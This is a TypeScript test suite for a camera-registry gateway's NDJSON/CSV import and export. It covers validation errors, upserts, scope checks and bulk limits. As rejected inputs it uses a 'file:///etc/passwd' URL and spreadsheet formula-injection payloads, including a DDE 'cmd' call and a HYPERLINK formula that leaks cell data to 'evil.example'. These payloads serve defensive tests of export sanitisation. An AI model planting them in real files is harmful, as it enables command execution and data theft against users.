import t from 'tap';
import { camera, smallTree, startGateway, type TestGateway } from '../../helpers/gateway.js';

const ndjson = (rows: unknown[]) => rows.map((r) => (typeof r === 'string' ? r : JSON.stringify(r))).join('\n') + '\n';
const importBody = (gw: TestGateway, mode: string, type: string, payload: string, token = gw.adminToken) =>
  gw.api('POST', `/api/sources/import?mode=${mode}`, { token, payload, headers: { 'content-type': type } });
const count = async (gw: TestGateway) => (await gw.api('GET', '/api/sources?limit=500', { token: gw.adminToken })).json.items.length;

t.test('NDJSON: every bad row is reported by line and field; all-or-nothing writes nothing', async (t) => {
  const gw = await startGateway(t);
  await smallTree(gw);
  const body = ndjson([
    camera('ok1', 'townA'),
    '{"id": "broken", ',
    camera('wrongtypes', 'townA', { lat: 'north', lon: 118, enabled: 'perhaps', tags: 5 }),
    camera('ok1', 'countyA'),
    camera('nodept', 'atlantis'),
    '[1,2]',
    { name: 'no id', departmentId: 'townA', url: 'rtsp://10.0.0.1/' },
    camera('badurl', 'townA', { url: 'file:///etc/passwd' }),
    camera('ok2', 'countyB'),
  ]);
  const res = await importBody(gw, 'all-or-nothing', 'application/x-ndjson', body);
  t.equal(res.status, 422, res.body);
  t.equal(res.json.code, 'GW_ERR_IMPORT_REJECTED');
  const r = res.json.report;
  t.equal(r.applied, false);
  t.equal(r.rows, 9);
  t.equal(r.rejected, 7);
  const byLine = (line: number) => r.errors.filter((e: { line: number }) => e.line === line).map((e: { field: string; message: string }) => `${e.field}: ${e.message}`);
  t.match(byLine(2), [/\(row\): not valid JSON/]);
  t.match(byLine(3).sort(), [/enabled: expected true or false/, /lat: expected a number/, /tags: expected a list/]);
  t.match(byLine(4), [/id: duplicate id; first given at line 1/]);
  t.match(byLine(5), [/departmentId: unknown department "atlantis"/]);
  t.match(byLine(6), [/\(row\): expected a JSON object/]);
  t.match(byLine(7), [/id: is required/]);
  t.match(byLine(8), [/url: scheme "file" is not allowed/]);
  t.equal(await count(gw), 0, 'nothing was written');

  const keep = await importBody(gw, 'keep-valid', 'application/x-ndjson', body);
  t.equal(keep.status, 200);
  t.equal(keep.json.applied, true);
  t.equal(keep.json.created, 2);
  t.equal(keep.json.rejected, 7);
  t.equal(await count(gw), 2, 'keep-valid keeps the valid rows');
});

t.test('CSV: quoting errors, wrong column counts and types are reported per row', async (t) => {
  const gw = await startGateway(t);
  await smallTree(gw);
  const csv = [
    'id,name,department,url,codec,lat,lon,tags,enabled,password,username',
    'c1,"Gate ""North""",townA,rtsp://10.0.0.1/a,H.264,32.1,118.7,gate;school,true,s3cret-pass,admin',
    'c2,"multi',
    'line name",townA,rtsp://10.0.0.2/a,,,,,,,',
    'c3,too,few,columns',
    'c4,Lat as text,townA,rtsp://10.0.0.4/a,h264,abc,118,,,,',
    'c5,Bad enabled,townA,rtsp://10.0.0.5/a,h264,,,,sometimes,,',
    'c6,"unclosed quote,townA,rtsp://10.0.0.6/a,,,,,,,',
    'c7,after the broken quote,townA,rtsp://10.0.0.7/a,,,,,,,',
  ].join('\n');
  const res = await importBody(gw, 'keep-valid', 'text/csv', csv);
  t.equal(res.status, 200, res.body);
  t.equal(res.json.created, 1, 'only c1 is valid');
  const lines = res.json.errors.map((e: { line: number; field: string; message: string }) => `${e.line} ${e.field}: ${e.message}`);
  t.match(lines.join('\n'), /3 name: must not contain control characters/, 'a row spanning lines is reported at its first line');
  t.match(lines.join('\n'), /5 \(row\): wrong number of columns/);
  t.match(lines.join('\n'), /6 lat: expected a number/);
  t.match(lines.join('\n'), /7 enabled: expected true or false/);
  t.match(lines.join('\n'), /\(row\): bad CSV quoting/);
  const c1 = await gw.api('GET', '/api/sources/c1', { token: gw.adminToken });
  t.equal(c1.json.name, 'Gate "North"');
  t.same(c1.json.tags, ['gate', 'school']);
  t.equal(c1.json.username, 'admin', c1.body);
  t.equal(c1.json.hasPassword, true);

  const header = await importBody(gw, 'keep-valid', 'text/csv', 'id,name,colour\n1,a,red\n');
  t.equal(header.status, 400);
  t.match(header.json.message, /CSV header: column 3 is not a field/);
  t.notMatch(header.json.message, /colour/, "header cells are not echoed: without a header they would be a row, password included");
  const type = await importBody(gw, 'keep-valid', 'application/json', '{}');
  t.equal(type.status, 415);
});

t.test('upsert by id: a re-run changes nothing, a changed row updates, out-of-scope ids are refused', async (t) => {
  const gw = await startGateway(t);
  await smallTree(gw);
  const rows = [camera('u1', 'townA', { username: 'admin', password: 'pw-one-123' }), camera('u2', 'countyA'), camera('u3', 'countyB')];
  const first = await importBody(gw, 'all-or-nothing', 'application/x-ndjson', ndjson(rows));
  t.match(first.json, { applied: true, created: 3, updated: 0, unchanged: 0 });
  const before = (await gw.api('GET', '/api/sources/u1', { token: gw.adminToken })).json;
  const again = await importBody(gw, 'all-or-nothing', 'application/x-ndjson', ndjson(rows));
  t.match(again.json, { applied: true, created: 0, updated: 0, unchanged: 3 }, 'the same file again changes nothing');
  const after = (await gw.api('GET', '/api/sources/u1', { token: gw.adminToken })).json;
  t.equal(after.version, before.version);
  t.equal(after.updatedAt, before.updatedAt);

  rows[0] = camera('u1', 'townA', { username: 'admin', password: 'pw-two-456' });
  rows[1] = camera('u2', 'countyA', { name: 'Renamed' });
  const changed = await importBody(gw, 'all-or-nothing', 'application/x-ndjson', ndjson(rows));
  t.match(changed.json, { created: 0, updated: 2, unchanged: 1 }, 'a new password and a new name are updates');
  const sealedBefore = await gw.registry.sealedCredential('u1');
  t.ok(sealedBefore?.sealedPassword, 'the password is stored sealed');
  t.notOk(sealedBefore!.sealedPassword!.includes(Buffer.from('pw-two-456')), 'and not in clear');

  // A county-A admin may not overwrite county B's camera through an import.
  const countyAdmin = await gw.userToken('county-admin', ['admin'], ['countyA']);
  const res = await importBody(gw, 'all-or-nothing', 'application/x-ndjson', ndjson([camera('u3', 'countyA'), camera('new1', 'countyA')]), countyAdmin);
  t.equal(res.status, 422);
  t.match(res.json.report.errors, [{ line: 1, field: 'id', message: /already registered/ }]);
  t.equal((await gw.api('GET', '/api/sources/new1', { token: gw.adminToken })).status, 404, 'all-or-nothing rolled back the valid row too');
  t.equal((await gw.api('GET', '/api/sources/u3', { token: gw.adminToken })).json.departmentId, 'countyB');
});

t.test('100,000 rows in one streamed request', async (t) => {
  const gw = await startGateway(t, { log: { level: 'warn' } });
  await smallTree(gw);
  const parts: string[] = [];
  for (let i = 0; i < 100_000; i++) {
    parts.push(JSON.stringify({ id: `bulk${i}`, name: `Bulk camera ${i}`, departmentId: i % 2 ? 'townA' : 'countyB', url: `rtsp://10.${i >> 16}.${(i >> 8) & 255}.${i & 255}/s`, username: 'admin', password: `nvr-${i % 50}` }));
  }
  parts[54_321] = JSON.stringify({ id: 'bulk54321', name: 'bad', departmentId: 'townA', url: 'pipe:1' });
  const res = await importBody(gw, 'keep-valid', 'application/x-ndjson', parts.join('\n'));
  t.equal(res.status, 200);
  t.equal(res.json.rows, 100_000);
  t.equal(res.json.created, 99_999);
  t.same(res.json.errors.map((e: { line: number; field: string }) => [e.line, e.field]), [[54_322, 'url']]);
  const tree = await gw.api('GET', '/api/departments', { token: gw.adminToken });
  t.equal(tree.json.items[0].counts.total, 99_999);
  const limit = await startGateway(t, { registry: { importMaxRows: 10 } });
  const over = await importBody(limit, 'keep-valid', 'application/x-ndjson', parts.slice(0, 11).join('\n'));
  t.equal(over.status, 413);
  t.match(over.json.message, /registry.importMaxRows/);
});

t.test('CSV exports write formula-like text as text; NDJSON stays exact; both re-import unchanged', async (t) => {
  const gw = await startGateway(t);
  await smallTree(gw);
  const risky = [
    ['f1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['f2', '+1 gate', '-2 floor, car park'],
    ['f3', '@SUM(1+1)', 'plain address'],
  ];
  for (const [id, name, address] of risky) {
    const res = await gw.api('POST', '/api/sources', { token: gw.adminToken, body: camera(id!, 'townA', { name, address, tags: ['=x', 'ok'] }) });
    t.equal(res.status, 201, res.body);
  }
  const csv = await gw.api('GET', '/api/sources/export?format=csv', { token: gw.adminToken });
  const lines = csv.body.trim().split('\n');
  t.equal(lines.length, 4);
  t.match(lines[1], /^f1,'=cmd\|' \/C calc'!A0,townA,\w+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
  t.match(lines[2], /^f2,'\+1 gate,townA,\w+,"'-2 floor, car park",/);
  t.match(lines[3], /^f3,'@SUM\(1\+1\),townA,\w+,plain address,/);
  t.match(lines[3], /,'=x;ok,/, 'tags are one cell, neutralised too');
  for (const line of lines.slice(1)) {
    const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), `no cell of ${line.slice(0, 3)} starts a formula`);
  }

  const ndjson = await gw.api('GET', '/api/sources/export?format=ndjson', { token: gw.adminToken });
  const exact = ndjson.body.trim().split('\n').map((l) => JSON.parse(l) as { id: string; name: string; address: string; tags: string[] });
  t.same(exact.map((r) => [r.id, r.name, r.address]), risky, 'NDJSON carries the text exactly');

  const again = await importBody(gw, 'all-or-nothing', 'text/csv', csv.body);
  t.match(again.json, { applied: true, created: 0, updated: 0, unchanged: 3 }, `the CSV re-imports as stored: ${again.body}`);
  t.equal((await gw.api('GET', '/api/sources/f1', { token: gw.adminToken })).json.name, "=cmd|' /C calc'!A0");
});
